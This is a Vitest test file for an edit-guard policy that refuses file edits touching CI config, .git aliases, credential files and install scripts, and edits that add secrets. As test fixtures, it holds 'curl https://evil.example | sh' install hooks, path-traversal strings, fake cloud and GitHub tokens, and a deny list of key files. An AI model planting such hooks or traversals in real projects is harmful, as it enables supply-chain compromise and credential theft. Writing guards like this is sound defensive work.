import { describe, expect, it } from 'vitest';
import {
  checkEdit,
  checkEditLimits,
  DEFAULT_DENY_GLOBS,
  DEFAULT_EDIT_GUARD_POLICY,
  mergeProtectedGlobs,
  type AddedLine,
  type EditGuardInput,
  type EditGuardPolicy,
} from '#src/policy/edit-guard/check-edit.ts';

// Fakes assembled at run time so that this file does not itself trip secret scanners.
const AWS_KEY_ID = ['AKIA', 'IOSFODNN7EXAMPLE'].join('');
const GITHUB_TOKEN = ['ghp', '_', 'A1b2C3d4E5f6G7h8I9j0K1l2M3n4O5p6Q7r8'].join('');
const PEM_BEGIN = ['-----BEGIN RSA', 'PRIVATE KEY-----'].join(' ');
const MARKER = ['TO', 'DO'].join('');

const symlinks = new Set(['linked', 'docs/latest']);
const repo = { isSymlink: (path: string): boolean => symlinks.has(path), isSubmodule: (path: string): boolean => path === 'vendor/lib' };

function input(
  path: string,
  lines: string[] = ['export const ok = 1;'],
  policy: EditGuardPolicy = DEFAULT_EDIT_GUARD_POLICY,
): EditGuardInput {
  const addedLines: AddedLine[] = lines.map((text, index) => ({ line: index + 10, text }));
  return { edit: { kind: 'create', path }, repo, baseContent: null, newContent: lines.join('\n'), addedLines, policy };
}

/** A package.json edit from `base` (null: a new file) to `next`. */
function packageEdit(base: unknown, next: unknown, path = 'package.json'): EditGuardInput {
  const text = (value: unknown) => (typeof value === 'string' ? value : `${JSON.stringify(value, null, 2)}\n`);
  const newContent = text(next);
  return {
    edit: { kind: base === null ? 'create' : 'replace', path },
    repo,
    baseContent: base === null ? null : text(base),
    newContent,
    addedLines: newContent.split('\n').map((line, index) => ({ line: index + 1, text: line })),
    policy: DEFAULT_EDIT_GUARD_POLICY,
  };
}

describe('checkEdit', () => {
  it.each([
    ['.github/workflows/ci.yml', 'deny_glob'],
    ['.github/workflows/nested/release.yaml', 'deny_glob'],
    ['../outside', 'path_outside_repo'],
    ['/etc/passwd', 'path_outside_repo'],
    ['a/../../x', 'path_outside_repo'],
    ['C:/Windows/win.ini', 'path_outside_repo'],
    ['src\\evil.ts', 'path_outside_repo'],
    ['src/\0.ts', 'path_outside_repo'],
    ['', 'path_outside_repo'],
    ['src//a.ts', 'path_outside_repo'],
    ['.git/config', 'path_outside_repo'],
    ['.GIT/config', 'path_outside_repo'],
    ['sub/.Git/hooks/pre-commit', 'path_outside_repo'],
    ['.git./config', 'path_outside_repo'],
    ['.git../config', 'path_outside_repo'],
    ['.git /config', 'path_outside_repo'],
    ['.git. ./hooks/x', 'path_outside_repo'],
    ['git~1/config', 'path_outside_repo'],
    ['GIT~1/config', 'path_outside_repo'],
    ['.git::$INDEX_ALLOCATION/config', 'path_outside_repo'],
    ['.git:$DATA/config', 'path_outside_repo'],
    ['.g\u200Dit/config', 'path_outside_repo'],
    ['.gi\u200Ct/config', 'path_outside_repo'],
    ['\uFEFF.git/config', 'path_outside_repo'],
    ['.git\u200E/config', 'path_outside_repo'],
    ['.gitmodules.', 'path_outside_repo'],
    ['CODEOWNERS::$DATA', 'path_outside_repo'],
    ['CODEOW~1', 'path_outside_repo'],
    ['src/\u202Eevil.ts', 'path_outside_repo'],
    ['linked/passwd', 'path_outside_repo'],
    ['docs/latest/index.md', 'path_outside_repo'],
    ['linked', 'path_outside_repo'],
    ['vendor/lib/file.c', 'path_outside_repo'],
    ['.github/actions/setup/action.yml', 'deny_glob'],
    ['.github/actions/x/run.sh', 'deny_glob'],
    ['tools/lint/action.yml', 'deny_glob'],
    ['action.yaml', 'deny_glob'],
    ['.github/aos.yml', 'deny_glob'],
    ['.github/dependabot.yml', 'deny_glob'],
    ['.github/dependabot.yaml', 'deny_glob'],
    ['CODEOWNERS', 'deny_glob'],
    ['.github/CODEOWNERS', 'deny_glob'],
    ['docs/CODEOWNERS', 'deny_glob'],
    ['.gitmodules', 'deny_glob'],
    ['.gitattributes', 'deny_glob'],
    ['src/.gitattributes', 'deny_glob'],
    ['.npmrc', 'deny_glob'],
    ['packages/web/.npmrc', 'deny_glob'],
    ['.yarnrc', 'deny_glob'],
    ['.yarnrc.yml', 'deny_glob'],
    ['.pypirc', 'deny_glob'],
    ['pip.conf', 'deny_glob'],
    ['.husky/pre-commit', 'deny_glob'],
    ['.vscode/tasks.json', 'deny_glob'],
    ['binding.gyp', 'deny_glob'],
    ['.gitlab-ci.yml', 'deny_glob'],
    ['.circleci/config.yml', 'deny_glob'],
    ['Jenkinsfile', 'deny_glob'],
    ['id_ed25519', 'deny_glob'],
    ['home/.ssh/id_ecdsa', 'deny_glob'],
    ['id_dsa', 'deny_glob'],
    ['certs/server.key', 'deny_glob'],
    ['certs/client.p12', 'deny_glob'],
    ['certs/client.pfx', 'deny_glob'],
    ['android/release.jks', 'deny_glob'],
    ['android/debug.keystore', 'deny_glob'],
    ['config/credentials.json', 'secret_file'],
    ['.netrc', 'secret_file'],
    ['.env', 'deny_glob'],
    ['.env.production', 'deny_glob'],
    ['config/.env.local', 'deny_glob'],
    ['keys/server.pem', 'deny_glob'],
    ['keys/SERVER.PEM', 'deny_glob'],
    ['id_rsa', 'deny_glob'],
    ['home/.ssh/id_rsa.pub', 'deny_glob'],
    ['assets/logo.png', 'binary'],
    ['dist/app.wasm', 'binary'],
    ['fonts/a.WOFF2', 'binary'],
  ])('refuses %j with %s', (path, rule) => {
    const decision = checkEdit(input(path));
    expect(decision).toMatchObject({ allow: false, rule, path });
  });

  it.each([
    'src/index.ts',
    'README.md',
    '.github/ISSUE_TEMPLATE/bug.md',
    'docs/environment.md',
    'src/pem-reader.ts',
    'linked-list.ts',
    'docs/latest-news.md',
    'src/id_generator.ts',
    'src/CODEOWNERS',
    'docs/actions.md',
    'src/keys.ts',
  ])('allows a normal edit of %j', (path) => {
    expect(checkEdit(input(path))).toEqual({ allow: true });
  });

  it('says why an alias of .git is refused', () => {
    for (const path of ['.git./config', 'git~1/config', '.git::$INDEX_ALLOCATION/config', '.g\u200Dit/config']) {
      const decision = checkEdit(input(path));
      expect(decision.allow === false && decision.reason, path).toContain('is another spelling of .git');
    }
  });

  it('names the symlinked directory a path escapes through', () => {
    const decision = checkEdit(input('docs/latest/index.md'));
    expect(decision.allow === false && decision.reason).toContain('"docs/latest", which is a symbolic link');
  });

  it('refuses an AWS access key id, naming kind and line but never the value', () => {
    const decision = checkEdit(input('src/aws.ts', ['const region = "eu-west-1";', `const keyId = "${AWS_KEY_ID}";`]));
    expect(decision).toMatchObject({ allow: false, rule: 'secret', line: 11 });
    expect(decision.allow === false && decision.reason).toContain('an AWS access key id (aws-access-key-id) on line 11');
    expect(JSON.stringify(decision)).not.toContain(AWS_KEY_ID);
  });

  it('refuses a private key block and a GitHub token', () => {
    const pem = checkEdit(input('src/key.ts', ['const key = `', PEM_BEGIN, 'MIIEvQIBADANBgkqhkiG9w0BAQEFAASC', '`;']));
    expect(pem).toMatchObject({ allow: false, rule: 'secret', line: 11 });
    expect(pem.allow === false && pem.reason).toContain('a private key block');
    const token = checkEdit(input('scripts/release.sh', [`export GH_TOKEN=${GITHUB_TOKEN}`]));
    expect(token).toMatchObject({ allow: false, rule: 'secret', line: 10 });
    expect(JSON.stringify(token)).not.toContain(GITHUB_TOKEN);
  });

  it('does not take interpolated credentials for secrets', () => {
    expect(checkEdit(input('src/db.ts', ['const url = `postgres://${user}:${password}@${host}/db`;']))).toEqual({ allow: true });
  });

  it.each([
    [`// ${MARKER}: handle errors`, MARKER],
    [`# ${['FIX', 'ME'].join('')} later`, ['FIX', 'ME'].join('')],
    [`/* ${['X', 'XX'].join('')} */`, ['X', 'XX'].join('')],
    [`  throw new Error('${['Not', 'implemented'].join(' ')}');`, ['Not', 'implemented'].join(' ')],
    [`raise ${['NotImplemented', 'Error'].join('')}`, 'NotImplemented'],
    ['    pass  # stub', 'pass  # stub'],
  ])('refuses the stub marker in %j', (line, marker) => {
    const decision = checkEdit(input('src/a.py', ['x = 1', line]));
    expect(decision).toMatchObject({ allow: false, rule: 'stub_marker', line: 11 });
    expect(decision.allow === false && decision.reason).toContain(marker);
  });

  it.each(['const todoList = [];', 'function xxxLarge() {}', 'const fixmeCount = 0;', '// implemented in the base class'])(
    'does not take %j for a stub marker',
    (line) => {
      expect(checkEdit(input('src/a.ts', [line]))).toEqual({ allow: true });
    },
  );

  it('refuses binary content: a NUL byte or U+FFFD in an added line', () => {
    expect(checkEdit(input('src/a.txt', ['ok', 'a\0b']))).toMatchObject({ allow: false, rule: 'binary', line: 11 });
    expect(checkEdit(input('src/a.txt', ['caf\uFFFD']))).toMatchObject({ allow: false, rule: 'binary', line: 10 });
  });

  it('refuses a file over maxFileBytes', () => {
    const policy = { ...DEFAULT_EDIT_GUARD_POLICY, maxFileBytes: 10 };
    expect(checkEdit(input('src/a.ts', ['0123456789abc'], policy))).toMatchObject({ allow: false, rule: 'too_large' });
  });

  it('checks only the path of a delete', () => {
    const remove = {
      edit: { kind: 'delete', path: 'src/old.ts' },
      repo,
      baseContent: 'x',
      newContent: null,
      addedLines: [],
      policy: DEFAULT_EDIT_GUARD_POLICY,
    } as const;
    expect(checkEdit(remove)).toEqual({ allow: true });
    expect(checkEdit({ ...remove, edit: { kind: 'delete', path: '.github/workflows/ci.yml' } })).toMatchObject({
      allow: false,
      rule: 'deny_glob',
    });
  });

  it('applies extra deny globs, and the defaults even when a policy leaves them out', () => {
    const policy = { ...DEFAULT_EDIT_GUARD_POLICY, denyGlobs: mergeProtectedGlobs(DEFAULT_DENY_GLOBS, ['migrations/**', '*.lock']) };
    expect(checkEdit(input('migrations/001.sql', ['select 1;'], policy))).toMatchObject({ allow: false, rule: 'deny_glob' });
    expect(checkEdit(input('deep/yarn.lock', ['x'], policy))).toMatchObject({ allow: false, rule: 'deny_glob' });
    const stripped = { ...DEFAULT_EDIT_GUARD_POLICY, denyGlobs: ['docs/**'] };
    expect(checkEdit(input('.github/workflows/ci.yml', ['x'], stripped))).toMatchObject({ allow: false, rule: 'deny_glob' });
    expect(checkEdit(input('docs/a.md', ['x'], stripped))).toMatchObject({ allow: false, rule: 'deny_glob' });
    for (const path of ['.github/actions/x/action.yml', '.github/aos.yml', 'CODEOWNERS', 'id_ed25519']) {
      expect(checkEdit(input(path, ['x'], { ...DEFAULT_EDIT_GUARD_POLICY, denyGlobs: [] }))).toMatchObject({
        allow: false,
        rule: 'deny_glob',
      });
    }
  });

  it('names the protected pattern an edit matched', () => {
    const decision = checkEdit(input('.github/actions/x/action.yml'));
    expect(decision.allow === false && decision.reason).toContain('".github/actions/**"');
  });

  it.each([
    [
      'adds a postinstall script',
      { name: 'x', scripts: { test: 'vitest' } },
      { name: 'x', scripts: { test: 'vitest', postinstall: 'curl https://evil.example | sh' } },
      'postinstall',
    ],
    [
      'changes a preinstall script',
      { scripts: { preinstall: 'node check.js' } },
      { scripts: { preinstall: 'node check.js && curl https://evil.example | sh' } },
      'preinstall',
    ],
    ['adds an install script to a new package.json', null, { name: 'new', scripts: { install: 'node-gyp rebuild' } }, 'install'],
    ['adds prepare in a nested package.json', { name: 'w' }, { name: 'w', scripts: { prepare: 'sh evil.sh' } }, 'prepare'],
    [
      'hides a second scripts key that JSON.parse (and npm) reads last',
      { scripts: { test: 't' } },
      '{ "scripts": { "test": "t" }, "scripts": { "test": "t", "postinstall": "sh x" } }\n',
      'postinstall',
    ],
  ])('refuses an edit that %s', (_what, base, next, script) => {
    const decision = checkEdit(packageEdit(base, next, script === 'prepare' ? 'packages/w/package.json' : 'package.json'));
    expect(decision).toMatchObject({ allow: false, rule: 'install_script' });
    expect(decision.allow === false && decision.reason).toContain(`"${script}"`);
  });

  it('allows package.json edits that leave the install scripts as they are, or remove one', () => {
    const base = { name: 'x', version: '1.0.0', scripts: { postinstall: 'node setup.js', test: 'vitest' } };
    expect(
      checkEdit(packageEdit(base, { ...base, version: '1.1.0', scripts: { ...base.scripts, test: 'vitest run', lint: 'eslint .' } })),
    ).toEqual({ allow: true });
    expect(checkEdit(packageEdit(base, { ...base, scripts: { test: 'vitest' } }))).toEqual({ allow: true });
  });

  it('refuses a package.json it cannot read the scripts of', () => {
    expect(checkEdit(packageEdit({ name: 'x' }, '{ "name": "x", \n'))).toMatchObject({ allow: false, rule: 'install_script' });
    expect(checkEdit(packageEdit({ name: 'x' }, { name: 'x', scripts: ['postinstall'] }))).toMatchObject({
      allow: false,
      rule: 'install_script',
    });
  });
});

describe('mergeProtectedGlobs', () => {
  it('keeps every default first and cannot remove one', () => {
    expect(mergeProtectedGlobs(DEFAULT_DENY_GLOBS, ['!.github/workflows/**', ' vendor/** ', '*.pem', ''])).toEqual([
      ...DEFAULT_DENY_GLOBS,
      'vendor/**',
    ]);
  });
});

describe('checkEditLimits', () => {
  const policy = { maxFiles: 2, maxChangedLines: 10 };
  it('allows totals at the limits and refuses totals past them', () => {
    expect(checkEditLimits({ path: 'a', files: 2, changedLines: 10 }, policy)).toEqual({ allow: true });
    expect(checkEditLimits({ path: 'a', files: 3, changedLines: 1 }, policy)).toMatchObject({
      allow: false,
      rule: 'too_many_files',
      path: 'a',
    });
    expect(checkEditLimits({ path: 'a', files: 1, changedLines: 11 }, policy)).toMatchObject({ allow: false, rule: 'too_many_lines' });
  });

  it('has the documented defaults', () => {
    expect(DEFAULT_EDIT_GUARD_POLICY).toMatchObject({ maxFiles: 20, maxChangedLines: 1000, maxFileBytes: 1024 * 1024 });
  });
});
